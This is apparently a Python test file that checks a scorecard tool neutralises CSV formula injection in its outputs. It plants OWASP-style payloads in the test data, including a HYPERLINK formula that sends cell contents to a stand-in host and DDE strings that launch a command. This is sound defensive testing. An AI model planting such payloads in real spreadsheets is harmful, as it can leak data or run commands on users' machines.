"""CSV injection: text a spreadsheet would run as a formula never reaches a CSV as a formula.

Formula payloads (OWASP's examples) are planted in every place text comes from: a published
file's organisation and ICB names, commentary, a local-measures comment and a published
file's own name. Every CSV scorecard writes (the build's tidy CSV, `values`, `history`,
`indicators`) is then read back: no text cell may begin with `=`, `+`, `-`, `@`, a tab or a
carriage return unless it is a number, and each payload must still be there, behind a single
quote. The workbook keeps the text as text (never a formula), and Parquet keeps it raw.
"""

from __future__ import annotations

import csv
import io
import shutil
import zipfile
from pathlib import Path

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook
from typer.testing import CliRunner

from scorecard.cli import app
from scorecard.render.csv_text import FORMULA_START, csv_text, neutralise, neutralised

ROOT = Path(__file__).resolve().parents[1]
ORG_NAME = '=HYPERLINK("http://example.invalid/?leak="&A1,"Click for details")'
ICB_NAME = "+cmd|' /C calc'!A0"
COMMENT = "@SUM(1+9)*cmd|' /C calc'!A0"
LOCAL_COMMENT = "-2+3+cmd|' /C calc'!A0"
TAB = "\t=1+1"
PAYLOADS = (ORG_NAME, ICB_NAME, COMMENT, LOCAL_COMMENT, TAB)
FILE_PREFIX = "=1+1 "  # a published file renamed by someone: its name reaches `history`
runner = CliRunner()


def _number(text: str) -> bool:
    try:
        float(text.replace(",", "").rstrip("%"))
    except ValueError:
        return False
    return True


def _runs_as_formula(cell: str) -> bool:
    return cell[:1] in FORMULA_START and not _number(cell)


def _edit_csv(path: Path, edit: dict[str, str], where: tuple[str, str]) -> None:
    rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))
    for row in rows:
        if row[where[0]] == where[1]:
            row.update(edit)
    out = io.StringIO()
    writer = csv.DictWriter(out, list(rows[0]), lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    path.write_text(out.getvalue(), encoding="utf-8")


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> dict[str, str | Path]:
    base = tmp_path_factory.mktemp("injection")
    data = base / "data"
    for folder in ("ae", "commentary", "local", "orgs"):
        shutil.copytree(ROOT / "data" / folder, data / folder)
    for path in (data / "ae").glob("*.csv"):
        _edit_csv(path, {"Org name": ORG_NAME}, ("Org Code", "ZA1"))
    september = data / "ae" / "Monthly-AE-September-2025.csv"
    september.rename(september.with_name(FILE_PREFIX + september.name))
    _edit_csv(
        next((data / "commentary").glob("*.csv")), {"Commentary": COMMENT}, ("Org Code", "ZA1")
    )
    local = data / "local" / "local-measures.csv"
    _edit_csv(local, {"Comment": LOCAL_COMMENT}, ("Org Code", "ZA1"))
    _edit_csv(data / "orgs" / "System-Mapping.csv", {"ICB Name": ICB_NAME}, ("ICB Code", "ZI1"))
    db, out = base / "store.duckdb", base / "out"
    files = [str(p) for p in sorted(data.glob("*/*.csv"))]
    result = runner.invoke(app, ["ingest", *files, "--db", str(db)])
    assert result.exit_code == 0, result.output
    texts: dict[str, str | Path] = {"out": out}
    for name, args in {
        "board": ["build", "--scorecard", str(ROOT / "scorecards" / "trust-board.toml")],
        "icb": ["build", "--org", "ZI1"],
        "values": ["values", "--org", "ZA1", "--indicator", "ae_4hr_all_pct"],
        "history": ["history", "ae_4hr_all_pct", "--org", "ZA1", "--period", "2025-09"],
        "indicators": ["indicators"],
    }.items():
        extra = ["--db", str(db)] if name != "indicators" else []
        if name in ("board", "icb"):
            extra += ["--period", "2025-09", "--out", str(out)]
        result = runner.invoke(app, [*args, *extra])
        assert result.exit_code == 0, result.output
        texts[name] = result.stdout
    return texts


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _outputs(built: dict[str, str | Path], suffix: str) -> list[Path]:
    out = built["out"]
    assert isinstance(out, Path)
    return sorted(p for p in out.iterdir() if p.name.endswith(suffix))


def test_no_csv_cell_runs_as_a_formula(built: dict[str, str | Path]) -> None:
    texts = [p.read_text(encoding="utf-8") for p in _outputs(built, ".csv")]
    texts += [str(built[k]) for k in ("values", "history", "indicators")]
    assert len(texts) == 5
    for text in texts:
        assert not [c for c in _cells(text) if _runs_as_formula(c)]


def test_every_payload_is_kept_behind_a_quote(built: dict[str, str | Path]) -> None:
    board = next(p for p in _outputs(built, ".csv") if p.name.startswith("trust-board"))
    cells = set(_cells(board.read_text(encoding="utf-8")))
    for payload in (ORG_NAME, COMMENT):
        assert "'" + payload in cells and payload not in cells
    icb = next(p for p in _outputs(built, ".csv") if p.name.startswith("scorecard-ZI1"))
    assert "'" + ICB_NAME in set(_cells(icb.read_text(encoding="utf-8")))
    history = set(_cells(str(built["history"])))
    assert any(c.startswith("'" + FILE_PREFIX) for c in history)


def test_negative_numbers_stay_numbers(built: dict[str, str | Path]) -> None:
    """The board's CSV has negative values (a finance measure's deficit): unquoted numbers."""
    board = next(p for p in _outputs(built, ".csv") if p.name.startswith("trust-board"))
    table = pl.read_csv(board, infer_schema_length=0)
    negative = table.filter(pl.col("value").str.starts_with("-"))
    assert negative.height > 0
    assert all(_number(v) for v in negative["value"]) and all(
        not d.startswith("'") for d in negative["value_display"]
    )


def test_the_workbook_writes_text_as_text(built: dict[str, str | Path]) -> None:
    book = next(p for p in _outputs(built, ".xlsx") if p.name.startswith("trust-board"))
    with zipfile.ZipFile(book) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert not any("<f>" in s or "<f " in s for s in sheets)  # no formula anywhere
    workbook = CalamineWorkbook.from_path(str(book))
    cells = {
        str(c)
        for name in workbook.sheet_names
        for row in workbook.get_sheet_by_name(name).to_python()
        for c in row
    }
    assert ORG_NAME in cells and COMMENT in cells  # as written, not neutralised


def test_parquet_keeps_the_raw_text(built: dict[str, str | Path]) -> None:
    board = next(p for p in _outputs(built, ".parquet") if p.name.startswith("trust-board"))
    table = pl.read_parquet(board)
    assert ORG_NAME in set(table["org_name"]) and COMMENT in set(table["comment"])


@pytest.mark.parametrize("payload", [*PAYLOADS, "\r=1", "＝1+1", "=", "-", "+"])
def test_a_formula_gets_a_quote(payload: str) -> None:
    assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize("number", ["-3.5", "+2", "-1e-05", "1E+30", "-1,234", "-2.5%", "-.5"])
def test_a_number_is_left_alone(number: str) -> None:
    assert neutralise(number) == number


@given(
    st.lists(
        st.text(max_size=6) | st.from_regex(r"[=+\-@\t\r][0-9.,%eE+-]{0,5}", fullmatch=True),
        max_size=8,
    )
)
def test_the_column_rule_is_the_cell_rule(cells: list[str]) -> None:
    """The vectorised rule used for tables gives exactly the per-cell rule, and what it
    writes never starts a formula."""
    frame = pl.DataFrame(
        {"text": cells, "n": [-1.5] * len(cells)}, schema={"text": pl.String, "n": pl.Float64}
    )
    got = neutralised(frame)
    assert got["text"].to_list() == [neutralise(c) for c in cells]
    assert got["n"].to_list() == frame["n"].to_list()
    assert not [c for c in got["text"] if _runs_as_formula(c) and not c.startswith("'")]
    assert csv_text(frame).startswith("text,n\n")
